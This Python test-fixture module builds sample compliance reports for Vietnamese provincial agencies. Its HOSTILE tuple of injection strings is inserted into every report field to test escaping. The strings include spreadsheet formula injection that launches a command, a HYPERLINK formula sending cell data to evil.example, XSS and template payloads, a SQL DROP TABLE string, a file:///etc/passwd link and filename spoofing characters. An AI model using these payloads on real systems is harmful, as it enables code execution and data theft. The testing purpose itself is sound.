"""A small run with everything that an output shows, and texts that mean harm."""

from __future__ import annotations

from pathlib import Path

from extractors.document import Anchor, Reason
from pipeline.outputs.report import Report
from rules.catalogue import rulebook
from rules.model.dossier import Severity, Status
from rules.model.papers import Band, Header, Period, Role
from tests import factories as make

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "\x1b[31mđỏ\x1b[0m",
    "[red]đỏ[/red] [link=http://evil.example]x[/link]",
    "fdp.\u202exslx.exe",
    "a\u2066b\u2069c\u200fd",
    "x" * 40_000,
    "một\ud800hai",
    "\x00\x01\x02\x7f\x85\ufffe\uffff",
    "http://evil.example/x",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "internal:'Tổng hợp'!A1",
    "javascript:alert(1)",
    '"><svg onload=alert(1)>',
    "&lt;b&gt; &amp; &#60;",
    "'; DROP TABLE findings; --",
    "_x000D__x0041_",
    "\U000e0041\U000e0042",
    "z\u0301" * 400,
)

HEALTH, HOME, SILENT = "so-y-te", "so-noi-vu", "ubnd-huyen-moc-chau"
AGENCIES = (
    make.agency(HOME, "Sở Nội vụ"),
    make.agency(HEALTH, "Sở Y tế"),
    make.agency(SILENT, "UBND huyện Mộc Châu", kind="ubnd_huyen"),
    make.agency("so-xay-dung", "Sở Xây dựng"),
)
TASKS = (
    make.task("I.3", outputs=("Kế hoạch", "Báo cáo")),
    make.task("VI.1", text="Nâng cao chất lượng khám, chữa bệnh", leads=("Sở Y tế",)),
)


def report(**changes: object) -> Report:
    """Sở Nội vụ met one output and misses one; Sở Y tế is late; Mộc Châu sent nothing."""
    late = make.obligation("VI.1", HEALTH)
    report_due = make.obligation("I.3", HOME, 2, output="Báo cáo", doc_type="Báo cáo")
    nothing = make.obligation("", SILENT, output="report:year", doc_type="Báo cáo")
    unclear = make.obligation("VI.1", HOME, output="Công văn")
    values: dict[str, object] = {
        "plan": make.plan(*TASKS),
        "as_of": make.AS_OF,
        "agencies": AGENCIES,
        "papers": [
            make.paper("d1", path="01. Sở Nội vụ/Kế hoạch số 15 (ký).docx"),
            make.report_paper("r1"),
            make.paper("d2", path="SYT/gói.zip/KH 22 #1.pdf", sender_id=HEALTH),
            make.unreadable_paper("u1", path="SYT/hỏng.pdf", sender_id=HEALTH),
            make.unreadable_paper("t1", path="~$a.docx", read_reason=Reason.TEMPORARY),
        ],
        "statements": [make.statement(), make.statement("r1#2", text="Đã khảo sát sự hài lòng")],
        "matches": [
            make.match("d1"),
            make.match("r1", statement_id="r1#1"),
            make.match("r1", "VI.1", statement_id="r1#2", band=Band.UNSURE, score=0.42),
        ],
        "citations": [make.citation(found_document_id="d1")],
        "judgements": [
            make.judgement(Status.MET, document_id="d1", via="document"),
            make.judgement(Status.MISSING, report_due),
            make.judgement(Status.LATE, late, document_id="d2", via="document", days_late=12),
            make.judgement(Status.REVIEW, unclear),
            make.judgement(Status.NOT_RECEIVED, nothing),
        ],
        "findings": [
            make.finding(
                "PH-0000-0002-2",
                "nothing-received",
                problem=make.problem(
                    "Chưa gửi gì.", agency_id=SILENT, task_id="", output_no=None, obligation_id=""
                ),
            ),
            make.finding(
                "PH-0000-0003-3",
                "late-output",
                severity=Severity.WARNING,
                state="unchanged",
                problem=make.problem(
                    "Kế hoạch chậm 12 ngày.",
                    message_en="The plan is 12 days late.",
                    agency_id=HEALTH,
                    task_id="VI.1",
                    obligation_id=late.id,
                    document_id="d2",
                    evidence=(
                        make.evidence("d2", path="SYT/gói.zip/KH 22 #1.pdf", quote="ngày 12/4"),
                        make.evidence("r1", path="01. Sở Nội vụ/r1.docx", quote="đã ban hành"),
                    ),
                ),
            ),
            make.finding(
                "PH-0000-0001-1",
                "missing-output",
                problem=make.problem("Thiếu Báo cáo.", output_no=2, obligation_id=report_due.id),
            ),
        ],
        "rules": rulebook(),
    }
    return make.run_report(**{**values, **changes})  # type: ignore[arg-type]


def hostile_report(text: str, **changes: object) -> Report:
    """The same run with one text wherever a submitted file or the plan could put it."""
    header = Header(text, text, text, text, None, text, text, text, text, text)
    paper = make.paper("d1", path=f"{text}/{text}", header=header, issuer_id="")
    found = make.evidence("d1", path=text, quote=text, anchor=Anchor(sheet=text, cell="A1"))
    problem = make.problem(text, message_en=text, evidence=(found,) * 7, document_id="d1")
    task = make.task("I.3", text=text, outputs=(text,), leads=(text,), deadlines=(text,))
    due = make.obligation(output=text, deadline=make.deadline(text))
    values: dict[str, object] = {
        "plan": make.plan(task, title=text, text=text, number=text),
        "agencies": [make.agency(HOME, text)],
        "papers": [
            paper,
            make.unreadable_paper("u1", path=text),
            make.paper("d3", path=text + "3", role=Role.REPORT_YEAR, period=Period("year", 2024)),
        ],
        "statements": [make.statement("d1#1", "d1", text=text)],
        "matches": [make.match("d1", band=Band.UNSURE, statement_id="d1#1", reasons=(text,))],
        "citations": [make.citation("d1", text=text, title=text)],
        "judgements": [
            make.judgement(Status.LATE, due, reason=text, reason_en=text, document_id="d1")
        ],
        "findings": [
            make.finding(problem=problem),
            make.finding("PH-0000-0009-9", "unmatched-document", problem=problem),
            make.finding("PH-0000-0008-8", "nothing-received", problem=problem),
        ],
    }
    return report(**{**values, **changes})


def lay_inbox(folder: Path) -> Path:
    """The files that the small run speaks of, empty."""
    for name in (
        "01. Sở Nội vụ/Kế hoạch số 15 (ký).docx",
        "01. Sở Nội vụ/r1.docx",
        "SYT/gói.zip",
        "SYT/hỏng.pdf",
    ):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"")
    return folder
